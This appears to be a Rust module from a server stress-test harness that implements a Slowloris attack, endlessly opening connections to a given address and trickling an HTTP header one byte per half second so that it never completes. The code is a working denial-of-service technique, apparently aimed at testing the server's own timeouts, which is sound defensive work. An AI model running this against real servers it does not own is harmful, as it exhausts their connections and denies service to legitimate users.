//! Slowloris: a head that never ends, byte by byte.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::interval;

use super::force::Counts;

/// Between two bytes: fast enough that the connection looks alive, slow enough that the head lasts for a minute.
const PACE: Duration = Duration::from_millis(500);

const HEAD: &[u8] = b"GET /api/v1/canaries HTTP/1.1\r\nHost: localhost\r\nX-Slow: ";

/// Sends such heads for ever; whenever it is cut off, another one.
pub(super) async fn send(address: SocketAddr, counts: Arc<Counts>) {
    let mut pace = interval(PACE);
    loop {
        pace.tick().await;
        let Ok(mut stream) = TcpStream::connect(address).await else {
            continue;
        };
        counts.slow_heads.fetch_add(1, Ordering::Relaxed);
        let mut answer = [0; 256];
        for byte in HEAD.iter().chain(std::iter::repeat(&b'x')) {
            tokio::select! {
                // Whatever comes, it is the end: an answer that it took too long, or the connection's.
                _ = stream.read(&mut answer) => break,
                _ = pace.tick() => if stream.write_all(&[*byte]).await.is_err() { break },
            }
        }
    }
}
